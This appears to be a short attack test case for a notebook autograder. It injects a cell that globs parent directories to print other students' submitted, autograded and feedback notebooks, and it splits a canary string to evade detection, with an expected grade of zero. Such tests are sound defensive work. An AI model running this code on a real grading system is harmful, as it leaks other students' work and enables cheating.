"""Prints the notebooks of all other students, from submitted/, autograded/ and feedback/.

deserves: 0
"""

CELL = """
import glob
for pattern in ("../../*/*/*.ipynb", "../../../submitted/*/*/*", "../../../autograded/*/*/*", "../../../feedback/*/*/*"):
    for path in glob.glob(pattern):
        try:
            print(path, [line for line in open(path, errors="replace") if "CANA" "RY" in line or "return" in line])
        except OSError as error:
            print(error)
"""


def attack(work):
    work.add(CELL)
